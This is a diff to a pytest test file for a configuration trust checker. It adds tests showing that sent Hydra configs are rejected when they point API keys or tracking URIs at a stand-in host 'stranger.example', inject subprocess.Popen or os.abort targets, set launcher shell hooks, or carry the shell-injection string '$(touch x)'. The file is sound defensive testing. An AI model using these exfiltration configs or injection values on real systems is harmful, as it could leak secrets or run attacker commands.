@@ -1,5 +1,6 @@
 """A configuration that was sent runs no code: what it names is looked at before it is imported."""
 
+import shlex
 import subprocess
 import sys
 from pathlib import Path
@@ -246,7 +247,7 @@ def test_a_job_of_a_sweep_is_looked_at_as_well(tmp_path: Path) -> None:
 
 def test_a_package_on_the_search_path_is_not_imported(tmp_path: Path) -> None:
     strangers = sent(tmp_path, config={"hydra": {"searchpath": ["pkg://tests.adversarial.abort"]}})
-    with pytest.raises(ConfigError, match=r"may import a package.*type it: 'hydra\.searchpath="):
+    with pytest.raises(ConfigError, match=r"may import a package.*type it: "):
         trust.check_command(["--config-path", str(strangers)], ROOT)
 
 
@@ -333,3 +334,114 @@ def test_python_itself_cannot_be_trusted(name: str, monkeypatch: pytest.MonkeyPa
 )
 def test_what_users_type_every_day_is_taken(arguments: list[str]) -> None:
     trust.check_command(arguments, ROOT)
+
+
+ASKED = {
+    "_target_": "experiments.backends.openai.OpenAI",
+    "model": "x",
+    "key_variable": "AWS_SECRET_ACCESS_KEY",
+}
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        {"backend": {**ASKED, "base_url": "https://stranger.example/v1"}},
+        {"backend": {**ASKED, "base_url": "http://localhost@stranger.example/v1"}},
+        {"backend": {**ASKED, "base_url": "http://${.place}/v1", "place": "stranger.example"}},
+        {"tracking": {"uri": "http://stranger.example:5000"}},
+        {"tracking": {"uri": "http://${oc.env:SECRET}.stranger.example"}},
+        {"tracking": {"uri": "postgresql:///runs?host=stranger.example"}},
+        {"tracking": {"artifacts": "s3://stranger.example/"}},
+    ],
+)
+def test_a_sent_file_sends_nothing_to_a_server_of_its_own_choice(
+    content: object, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    text = f"# @package _global_\n{yaml.safe_dump(content)}"
+    typed = [f"--config-dir={sent(tmp_path, experiment__x=text)}", "experiment=x"]
+    monkeypatch.setenv("SECRET", "hush")
+    with pytest.raises(ConfigError, match=r"stranger\.example.* in a file that was sent"):
+        trust.check_command(typed, ROOT)
+    monkeypatch.setenv(trust.VARIABLE, "stranger.example,hush.stranger.example,")
+    if "postgresql" not in str(content):
+        trust.check_command(typed, ROOT)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        {"backend": {**ASKED, "base_url": "http://127.0.0.1:8080/v1"}},
+        {"backend": {**ASKED, "base_url": "https://api.openai.com/v1"}},
+        {"tracking": {"uri": "sqlite:///mlruns/other.db", "artifacts": "mlruns/others"}},
+    ],
+)
+def test_a_sent_file_may_name_this_machine_and_servers_of_the_project(
+    content: object, tmp_path: Path
+) -> None:
+    text = f"# @package _global_\n{yaml.safe_dump(content)}"
+    typed = [f"--config-dir={sent(tmp_path, experiment__x=text)}", "experiment=x"]
+    trust.check_command(typed, ROOT)
+    typed += ["-m", "tracking.uri=http://one.example,http://other.example"]
+    trust.check_command(typed, ROOT)  # the user's own
+
+
+HYDRAS_OF_STRANGERS = {
+    "overrides": {
+        "overrides": {"hydra": ["+hydra.job_logging.handlers.x={class:subprocess.Popen,args:x}"]}
+    },
+    "overrides_of_the_task": {"overrides": {"task": ["backend._target_=os.abort"]}},
+    "setup": {"launcher": {"setup": ["touch x"]}},
+    "sbatch": {"launcher": {"additional_parameters": {"prolog": "touch x"}}},
+    "pickles": {"launcher": {"submitit_folder": "/tmp/pickles"}},
+    "cluster": {"launcher": {"ray": {"init": {"address": "ray://stranger.example"}}}},
+    "hook": {"launcher": {"ray": {"init": {"runtime_env": {"worker_process_setup_hook": "x"}}}}},
+}
+
+
+@pytest.mark.parametrize("content", HYDRAS_OF_STRANGERS.values(), ids=HYDRAS_OF_STRANGERS)
+def test_a_sent_file_steers_no_launcher_and_types_nothing(content: object, tmp_path: Path) -> None:
+    launcher = "planned_ray" if "ray" in str(content) else "planned_slurm"
+    lines = f"# @package _global_\ndefaults:\n  - override /hydra/launcher: {launcher}\n"
+    sent(tmp_path, experiment__x=lines + yaml.safe_dump({"hydra": content}))
+    with pytest.raises(ConfigError, match=r"hydra\.(overrides|launcher)"):
+        trust.check_command([f"--config-dir={tmp_path}", "experiment=x", "-m"], ROOT)
+
+
+def test_a_sent_file_may_choose_a_launcher_and_the_user_steers_it(tmp_path: Path) -> None:
+    lines = "# @package _global_\ndefaults:\n  - override /hydra/launcher: planned_slurm\n"
+    sent(tmp_path, experiment__x=lines)
+    typed = [f"--config-dir={tmp_path}", "-m", "experiment=x", "prompt=plain,cot"]
+    trust.check_command([*typed, "hydra.launcher.setup=[module load gcc]"], ROOT)
+
+
+@pytest.mark.parametrize(
+    "hydra", ["{searchpath: '${places}'}", "'${whole}'", "{searchpath: ['${places[0]}']}"]
+)
+def test_a_search_path_is_read_as_hydra_reads_it(hydra: str, tmp_path: Path) -> None:
+    """What stands there would else be composed unseen."""
+    place = f"file://{tmp_path}/unseen"
+    (tmp_path / "main").mkdir()
+    (tmp_path / "main" / "config.yaml").write_text(
+        f"places: ['{place}']\nwhole: {{searchpath: ['{place}']}}\nhydra: {hydra}\n"
+    )
+    with pytest.raises(ConfigError, match=r"hydra\.searchpath"):
+        trust.check_command(["--config-path", str(tmp_path / "main")], ROOT)
+
+
+def test_what_is_to_be_typed_runs_nothing_that_a_file_says(tmp_path: Path) -> None:
+    """A hint may be copied into a shell, with a stranger's words in it."""
+    evil = "$(touch x)'; touch x #"
+    sent(tmp_path, config={"hydra": {"searchpath": [f"pkg://{evil}"]}})
+    with pytest.raises(ConfigError) as searched:
+        trust.check_command([f"--config-path={tmp_path}"], ROOT)
+    with pytest.raises(ConfigError) as named:
+        trust.made(OmegaConf.create({"_target_": f"{evil}.load"}), "dataset")
+    config = OmegaConf.create({"backend": {"base_url": f"http://{evil}/v1"}})
+    with pytest.raises(ConfigError) as asked:
+        trust.check_servers(config, [])
+    for error in (searched, named, asked):
+        typed = error.value.hint.partition("type")[2].partition(":")[2].partition(" python")[0]
+        words = shlex.split(typed)
+        assert len(words) == 1, words
+        assert evil[:10] in words[0]
